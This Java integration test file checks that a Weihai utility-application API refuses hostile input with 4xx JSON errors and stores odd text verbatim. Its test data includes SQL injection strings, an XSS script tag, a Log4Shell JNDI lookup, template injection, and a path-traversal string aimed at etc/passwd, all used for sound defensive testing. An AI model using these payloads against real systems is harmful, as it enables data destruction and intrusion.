package cn.weihai.lianbao.integration.v1;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;

import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.Base64;
import java.nio.charset.StandardCharsets;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Hostile input to the API (issue 9, part 6): always a 4xx with the API's JSON errors, never a 500, and nothing
 * stored on a refusal; texts that are merely odd (injection strings, emoji, bidi overrides) are stored verbatim.
 */
class HostileInputApiTest extends ApiTestSupport {
    static final String SQL = "'; DROP TABLE app_user; --";
    static final String SCRIPT = "<script>alert('x')</script>";
    static final String OR_TRUE = "\" OR '1'='1";
    static final String ODD_UNICODE = "工程😀\u202Eevil\u200B\uFEFF末";

    @Autowired
    JdbcTemplate jdbc;

    private int acceptedEvents() {
        return jdbc.queryForObject(
                "SELECT count(*) FROM DomainEventEntry WHERE payloadType LIKE '%ApplicationAccepted'", Integer.class);
    }

    private Response submit(String json) {
        return post("clerk", "/api/v1/applications", json);
    }

    private static String withProjectName(String jsonString) {
        return submission(daysAgo(1), "[{\"type\": \"TELECOM\"}]")
                .replace("\"某某花园二期\"", jsonString);
    }

    private static void assertJsonError(Response r, int status) {
        assertThat(r.status()).as(r.body()).isEqualTo(status);
        assertThat(r.headers().firstValue("Content-Type").orElse("")).contains("application/json");
        assertThat(r.json().path("errors").isArray()).as(r.body()).isTrue();
        assertThat(r.body()).doesNotContain("Exception").doesNotContain("at cn.weihai");
    }

    @ParameterizedTest
    @ValueSource(strings = {"{", "{\"channel\": ", "[1,2", "not json", "{\"channel\": \"GOV_SERVICE_CENTER\",}",
            "\"just a string\"", "null", "{\"services\": \"WATER\"}", "{\"acceptedOn\": 20260302}",
            "{\"applicant\": [], \"project\": 5, \"services\": [null]}", "{\"services\": [{\"type\": 7}]}"})
    void malformedJsonWrongTypesAndNullsAre400AndStoreNothing(String json) {
        int before = acceptedEvents();
        assertJsonError(submit(json), 400);
        assertThat(acceptedEvents()).isEqualTo(before);
    }

    @Test
    void aTenMegabyteBodyIs413BeforeAnythingReadsIt() {
        int before = acceptedEvents();
        String huge = withProjectName("\"" + "x".repeat(10 * 1024 * 1024) + "\"");
        assertJsonError(submit(huge), 413);
        assertThat(acceptedEvents()).isEqualTo(before);
    }

    @Test
    void aTenMegabyteBodyIs413ForAnonymousToo() {
        Response r = post(null, "/api/v1/public/progress", "{\"caseNumber\": \"" + "9".repeat(10_000_000) + "\"}");
        assertJsonError(r, 413);
    }

    @ParameterizedTest
    @ValueSource(strings = {"2026-02-30", "0000-01-01", "9999-12-31", "1900-01-01", "2026-13-01", "26-03-02",
            "2026-03-02T10:00", "yesterday", ""})
    void impossibleOrOutOfRangeBusinessDatesAre400(String date) {
        int before = acceptedEvents();
        String json = submission(daysAgo(1), "[{\"type\": \"TELECOM\"}]")
                .replace("\"acceptedOn\": \"" + daysAgo(1) + "\"", "\"acceptedOn\": \"" + date + "\"");
        Response r = submit(json);
        if (date.isEmpty()) {
            assertThat(r.status()).as(r.body()).isIn(201, 400); // blank = the default, today
        } else {
            assertJsonError(r, 400);
            assertThat(acceptedEvents()).isEqualTo(before);
        }
    }

    @Test
    void stepDatesInTheFarPastOrFutureAre4xx() {
        String caseNumber = newCase(daysAgo(3), "[{\"type\": \"TELECOM\"}]");
        for (String date : List.of("0001-01-01", "9999-12-31", "2026-02-30", "1970-01-01")) {
            Response r = post("telecom", "/api/v1/applications/" + caseNumber + "/tracks/TELECOM/steps",
                    "{\"step\": \"SURVEYED\", \"occurredOn\": \"" + date + "\"}");
            assertThat(r.status()).as(date + " " + r.body()).isBetween(400, 499);
            assertThat(r.json().path("errors").isArray()).isTrue();
        }
        Response history = get("telecom", "/api/v1/applications/" + caseNumber + "/history");
        assertThat(history.json().size()).as("only the acceptance is stored").isEqualTo(1);
    }

    @ParameterizedTest
    @ValueSource(strings = {"\"工程\\u0000名称\"", "\"\\u0000\"", "\"a\\U0000b\""})
    void aNulInAnyTextIs400AndStoresNothing(String name) {
        int before = acceptedEvents();
        Response r = submit(withProjectName(name));
        assertJsonError(r, 400);
        assertThat(r.firstMessage()).isNotBlank();
        assertThat(acceptedEvents()).isEqualTo(before);
    }

    @Test
    void anEscapedBackslashBeforeU0000IsNoNul() {
        Response r = submit(withProjectName("\"路径C:\\\\u0000项目\""));
        assertThat(r.status()).as(r.body()).isEqualTo(201);
        assertThat(r.json().path("project").path("name").asString()).isEqualTo("路径C:\\u0000项目");
    }

    @Test
    void aNulInAStepNoteOrAQueryParameterIs400() {
        String caseNumber = newCase(daysAgo(3), "[{\"type\": \"TELECOM\"}]");
        Response step = post("telecom", "/api/v1/applications/" + caseNumber + "/tracks/TELECOM/steps",
                "{\"step\": \"SURVEYED\", \"note\": \"踏勘\\u0000完成\"}");
        assertJsonError(step, 400);
        assertJsonError(get("hotline", "/api/v1/open311/requests?service_request_id=WH%00X"), 400);
        assertJsonError(get("supervisor", "/api/v1/supervision-orders?filter=OPEN%00"), 400);
        assertThat(get("telecom", "/api/v1/applications/" + caseNumber + "/history").json().size()).isEqualTo(1);
    }

    @ParameterizedTest
    @ValueSource(strings = {SQL, SCRIPT, OR_TRUE, ODD_UNICODE, "Robert'); DELETE FROM DomainEventEntry;--",
            "${jndi:ldap://x/a}", "{{7*7}}", "%00%27", "‮‭", "ｆｕｌｌｗｉｄｔｈ", "👨‍👩‍👧‍👦🏳️‍🌈"})
    void oddTextIsStoredVerbatimInEveryTextField(String text) {
        String json = submission(daysAgo(1), "[{\"type\": \"TELECOM\"}]")
                .replace("\"威海某某置业有限公司\"", JSON.writeValueAsString(text + "公司"))
                .replace("\"某某花园二期\"", JSON.writeValueAsString(text))
                .replace("\"环翠区某路1号\"", JSON.writeValueAsString(text + "路"))
                .replace("\"张三\"", JSON.writeValueAsString(text.length() > 20 ? "张三" : text));
        Response r = submit(json);
        if (r.status() == 400) {
            assertJsonError(r, 400); // e.g. a contact name the rules refuse: a field error, not a failure
            return;
        }
        assertThat(r.status()).as(r.body()).isEqualTo(201);
        String caseNumber = r.json().path("caseNumber").asString();
        Response read = get("clerk", "/api/v1/applications/" + caseNumber);
        assertThat(read.json().path("project").path("name").asString()).isEqualTo(text);
        assertThat(read.json().path("project").path("address").asString()).isEqualTo(text + "路");
        assertThat(read.json().path("applicant").path("name").asString()).isEqualTo(text + "公司");
        assertThat(jdbc.queryForObject("SELECT count(*) FROM app_user", Integer.class)).isPositive();
    }

    @Test
    void veryLongTextsAre400() {
        int before = acceptedEvents();
        assertJsonError(submit(withProjectName("\"" + "长".repeat(100_000) + "\"")), 400);
        assertThat(acceptedEvents()).isEqualTo(before);
    }

    @ParameterizedTest
    @ValueSource(strings = {SQL, SCRIPT, OR_TRUE, "' OR 1=1 --", "1; SELECT pg_sleep(5)", "..%2F..%2Fetc%2Fpasswd"})
    void injectionInFilterAndQueryParametersIsA4xxOrAnEmptyAnswer(String value) {
        String q = URLEncoder.encode(value, StandardCharsets.UTF_8);
        assertJsonError(get("supervisor", "/api/v1/supervision-orders?filter=" + q), 400);
        assertJsonError(get("supervisor", "/api/v1/approvals?department=" + q), 400);
        Response open311 = get("hotline", "/api/v1/open311/requests?service_request_id=" + q);
        assertThat(open311.status()).as(open311.body()).isEqualTo(200);
        assertThat(open311.json().size()).isZero();
        Response asOf = get("supervisor", "/api/v1/applications/" + newCase(daysAgo(1), "[{\"type\": \"GAS\"}]")
                + "?asOf=" + q);
        assertJsonError(asOf, 400);
        HttpResponse<String> unknownCase = raw("supervisor", "/api/v1/applications/" + q);
        assertThat(unknownCase.statusCode()).as(unknownCase.body()).isBetween(400, 404);
        if (!value.contains("/")) { // an encoded slash is refused by the servlet container itself, before the app
            assertThat(unknownCase.headers().firstValue("Content-Type").orElse("")).contains("json");
        }
    }

    private HttpResponse<String> raw(String user, String path) {
        try {
            return HttpClient.newBuilder().followRedirects(HttpClient.Redirect.NEVER).build().send(
                    HttpRequest.newBuilder(uri(path)).header("Authorization", "Basic " + Base64.getEncoder()
                            .encodeToString((user + ":demo").getBytes(StandardCharsets.UTF_8))).GET().build(),
                    HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    @Test
    void aFormPostOrWrongMediaTypeIsA4xx() {
        Response r = send("clerk", HttpRequest.newBuilder(uri("/api/v1/applications"))
                .header("Content-Type", "application/x-www-form-urlencoded")
                .POST(HttpRequest.BodyPublishers.ofString("channel=GOV_SERVICE_CENTER")), null);
        assertThat(r.status()).as(r.body()).isBetween(400, 499);
        Response xml = send("clerk", HttpRequest.newBuilder(uri("/api/v1/applications"))
                .header("Content-Type", "application/xml")
                .POST(HttpRequest.BodyPublishers.ofString("<a/>")), null);
        assertThat(xml.status()).as(xml.body()).isBetween(400, 499);
    }
}
